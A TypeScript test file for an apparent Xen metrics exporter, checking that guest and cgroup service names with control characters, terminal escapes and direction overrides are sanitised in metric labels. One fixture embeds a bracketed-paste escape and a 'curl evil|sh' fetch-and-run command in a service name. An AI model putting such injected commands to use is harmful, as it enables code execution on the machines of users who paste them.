import { statSync } from 'node:fs';
import { expect, test } from 'vitest';
import { listeners } from '../../src/collectors/listeners/listeners.ts';
import { registry } from '../../src/collectors/registry.ts';
import { collect, collectText, createCollector, runBackground } from '../../tools/lib/collect.ts';
import { readText } from '../../tools/lib/fixture.ts';
import { copyOfHost } from '../../tools/lib/hosts.ts';
import { toolstackOf } from '../../tools/lib/sources.ts';
import { Machine } from '../support/machine.ts';

// Control characters except the newline between lines, direction-changing characters, and invisible ones.
const unprintable = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** Names as long as `domu1`. */
const hostile = ['\u001b[2Jx', 'a\u009b2Jx', 'a\rb\tc', '\u202ebew', 'we\u200bbs', 'a\u2028bcd', 'a\u007f\u0007bc'];

test.each(hostile)('no collector of a host serves the name %j of a guest as it is', async (name) => {
  const commands = ['xl list -v', 'xl list -l', 'xl vcpu-list', 'xl sched-credit'];
  const { tree, host } = copyOfHost('credit-storm');
  using _ = tree;
  for (const command of commands) {
    const text = readText(`hosts/credit-storm/commands/${command}`);
    tree.write({ [`commands/${command}`]: text.replaceAll('"domu1"', JSON.stringify(name)).replace(/^domu1/gm, name) });
  }
  const toolstack = toolstackOf(host);
  const collectors = registry
    .map((definition) => createCollector(definition, host, {}, { toolstack }))
    .filter((collector) => collector.availability() === true);
  await runBackground(collectors);
  const pages = await Promise.all(collectors.map((collector) => collectText(collector, host)));
  const lines = pages.join('').split('\n');
  expect(lines.filter((line) => unprintable.test(line))).toEqual([]);
  const shown = name.replace(new RegExp(unprintable, 'gu'), '\ufffd');
  const ofGuest = lines.filter((line) => line.includes(`domain="${shown}"`));
  const metricsOf = new Set(ofGuest.map((line) => line.split('{', 1)[0]));
  expect([...metricsOf]).toEqual(
    expect.arrayContaining(['xen_domain_info', 'xen_vif_receive_packets_total', 'xen_backend_events_total']),
  );
});

test('two guests whose names look the same are two', async () => {
  const { tree, host } = copyOfHost('credit-storm');
  using _ = tree;
  const text = readText('hosts/credit-storm/commands/xl list -v');
  tree.write({ 'commands/xl list -v': text.replace(/^domu1/m, 'web\u0001x').replace(/^domu2/m, 'web\u0002x') });
  const collector = createCollector(
    registry.find(({ name }) => name === 'domains')!,
    host,
  );
  await runBackground([collector]);
  const names = (await collect(collector, host)).samples('xen_domain_info').map(({ labels }) => labels['domain']);
  expect(names).toEqual(['Domain-0', 'web\ufffdx', 'domid:2', 'pvh1']);
});

test('nor does a service: who may make a cgroup may call it as he likes', async () => {
  using machine = new Machine();
  const folder = 'sys/fs/cgroup/user.slice/user-1000.slice/\u001b[201~curl evil|sh\r.service';
  machine.tree.write({ [`${folder}/cgroup.procs`]: '' });
  const cgroupId = statSync(machine.tree.path(folder)).ino;
  machine.listeners.set(1, [{ port: 80, id: 1, cgroupId }]);
  const page = await collect(createCollector(listeners, machine.host), machine.host);
  expect(page.samples('xen_listener_info').map(({ labels }) => labels['service'])).toEqual([
    '\ufffd[201~curl evil|sh\ufffd.service',
  ]);
});
